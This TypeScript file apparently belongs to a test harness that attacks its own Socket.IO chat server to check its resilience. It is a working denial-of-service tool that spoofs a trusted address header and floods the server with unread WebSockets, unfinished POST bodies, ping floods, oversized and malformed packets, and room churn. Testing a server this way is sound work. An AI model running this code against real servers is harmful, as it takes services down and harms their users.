/**
 * The attacker, in a process of its own: does at once, from each of several addresses, all that takes memory or time, until
 * the process is ended. Arguments: a server's URL, the header that the server trusts, and the addresses.
 */
import { setPriority } from "node:os";
import { PATH, Session, speak, Wire } from "./attacker";
import { Deaf, frame, PING, TEXT } from "./deaf";

const [url = "", header = "", ...addresses] = process.argv.slice(2);

type Headers = Record<string, string>;
/** One part of the attack, from one address: opens connections, calls `begun`, and ends them about as late as `HOLD`. */
type Part = (from: Headers, begun: () => void) => Promise<void>;
type Open<T> = (from: Headers) => T | Promise<T>;

/** Milliseconds for which a part keeps its connections, between two of its packets, and until it tries again to get in. */
const HOLD = 600;
const BEAT = 200;
const AGAIN = 20;
/** New sessions of an address that are admitted at once after a rest, and milliseconds from one to the next after these. */
const BURST = 100;
const APART = 10;

const LONGEST = `42["chuan",{"name":"mallory","txt":"${"😀".repeat(4000)}"}]`;
const NEWEST = '427["history",{"room":"lobby"}]';
/** So many pages of the newest messages are just within the backlog of one connection. */
const PAGES = 15;
const FILES = ["/socket.io/socket.io.js.map", "/socket.io/socket.io.js", "/main.js", "/"];

const times = <T>(count: number, make: (n: number) => T) =>
  Array.from({ length: count }, (_, n) => make(n));
const many = (packet: string, count: number) => times(count, () => packet);

const hold = () => Bun.sleep(HOLD);

/** Acts at each beat until the connections have been held long enough. */
async function atEachBeat(act: (beat: number) => unknown, every = BEAT): Promise<void> {
  for (let beat = 0; beat * every < HOLD; beat += 1) {
    await act(beat);
    await Bun.sleep(every);
  }
}

/** A part that opens so many connections, and ends them after use. */
const part =
  <T extends Disposable>(
    count: number,
    open: Open<T>,
    use: (all: T[]) => Promise<unknown> = hold,
  ): Part =>
  async (from, begun) => {
    const all = await Promise.all(times(count, async () => open(from)));
    begun();
    try {
      await use(all);
    } finally {
      for (const one of all) one[Symbol.dispose]();
    }
  };

/** By address, when the next session is surely admitted. */
const nextAt = new Map<string | undefined, number>();

/** Opens a session as soon as it is admitted. More attempts would be a flood of refusals, which slows the attack. */
const session =
  <T>(open: Open<T>): Open<T> =>
  async (from) => {
    for (;;) {
      const now = performance.now();
      const at = Math.max(nextAt.get(from[header]) ?? 0, now - BURST * APART);
      nextAt.set(from[header], at + APART);
      await Bun.sleep(at - now);
      try {
        return await open(from);
      } catch {
        await Bun.sleep(AGAIN);
      }
    }
  };

const webSocket = session((from) => Wire.connect(url, from));

/** A WebSocket that reads nothing but its greeting. */
const deafWebSocket = session(async (from) => {
  const socket = new Deaf(url).upgrade("", from);
  for (let waited = 0; waited < HOLD; waited += AGAIN) {
    const answer = new TextDecoder().decode(socket.read(12));
    if (answer === "HTTP/1.1 101") return socket.send(frame(TEXT, "40"));
    if (answer !== "") break;
    await Bun.sleep(AGAIN);
  }
  socket[Symbol.dispose]();
  throw new Error("the WebSocket was refused");
});

/** A session that has asked for as much as may wait for one connection. */
const asking = session(async (from) => {
  const polling = await Session.connect(url, from);
  await polling.post(many(NEWEST, PAGES).join("\x1e"));
  return polling;
});

/** Sends packets on so many WebSockets at each beat, and reads what comes. */
const chatter = (connections: number, packets: (beat: number) => string[]): Part =>
  part(connections, webSocket, (wires) =>
    atEachBeat((beat) => {
      for (const wire of wires) {
        wire.heard.length = 0;
        wire.send(...packets(beat));
      }
    }),
  );

let files = 0;
let rooms = 0;

/** All of it needs no more sessions than an address may open in a second: each part is as large as its limit, or larger. */
const PARTS: Record<string, Part> = {
  "H7: long answers that are never polled": part(8, asking),

  "H8, H12: long answers that WebSockets do not read": part(60, deafWebSocket, (sockets) => {
    const question = Buffer.concat(times(PAGES, () => frame(TEXT, NEWEST)));
    for (const socket of sockets) socket.send(question);
    return hold();
  }),

  "H37: polls that are not read": part(12, async (from) =>
    new Deaf(url).get((await asking(from)).path, from),
  ),

  "H38: files that are not read": part(150, (from) =>
    new Deaf(url).get(FILES[(files += 1) % FILES.length] ?? "/", from),
  ),

  "H39: the longest messages": chatter(4, (beat) => many(LONGEST, beat === 0 ? 50 : 2)),

  "H40: malformed requests": part(0, webSocket, () => {
    const request = `GET ${PATH} HTTP/1.1\r\nHost: a\r\nHost: a\r\nConnection: close\r\n\r\n`;
    return atEachBeat(() => Promise.all(times(20, () => speak(url, request))));
  }),

  "H41: events that are refused": chatter(6, () => many('42["no such event"]', 19)),

  "H41: packets that are long": chatter(4, () => many(`42["no","${"x".repeat(8000)}"]`, 4)),

  "H45: renames in many rooms": chatter(2, (beat) => [
    ...(beat === 0 ? times(19, (n) => `42["join",{"room":"room-${n}"}]`) : []),
    ...times(2, (n) => `42["rename",{"name":"mallory ${beat}${n}"}]`),
  ]),

  "H46: a WebSocket's own pings": part(3, deafWebSocket, (sockets) => {
    const pings = Buffer.concat(times(100, () => frame(PING, "x".repeat(125))));
    return atEachBeat(() => sockets.forEach((socket) => socket.send(pings)), AGAIN);
  }),

  "H46: bodies of POSTs that do not end": part(
    10,
    session(async (from) => {
      const { path } = await Session.connect(url, from);
      const head = `POST ${path} HTTP/1.1\r\nHost: a\r\n${header}: ${from[header]}\r\n`;
      return new Deaf(url).send(`${head}Content-Length: 60000\r\n\r\n4${"x".repeat(59_000)}`);
    }),
  ),

  "H46: new rooms, in and out": chatter(2, () =>
    times(9, () => `${(rooms += 1)}`).flatMap((room) =>
      ["join", "leave"].map((event) => `42["${event}",{"room":"${room}"}]`),
    ),
  ),
};

// Only here are the attacker and its victim on one machine: what it computes is not to be part of the attack.
setPriority(19);
process.on("disconnect", () => process.exit());

const { promise: allHaveBegun, resolve: goOn } = Promise.withResolvers<void>();

/** Keeps a part up. Its second round begins when every part has had its connections, so that from then on all go on at once. */
async function keepUp(once: Part, from: Headers, begun: () => void): Promise<never> {
  for (;;) {
    await once(from, begun).catch(() => {});
    await allHaveBegun;
    await Bun.sleep(0);
  }
}

const beginnings = addresses.flatMap((address) =>
  Object.values(PARTS).map((each) => {
    const { promise, resolve } = Promise.withResolvers<void>();
    void keepUp(each, { [header]: address }, resolve);
    return promise;
  }),
);
await Promise.all(beginnings);
goOn();
process.send?.("at it");
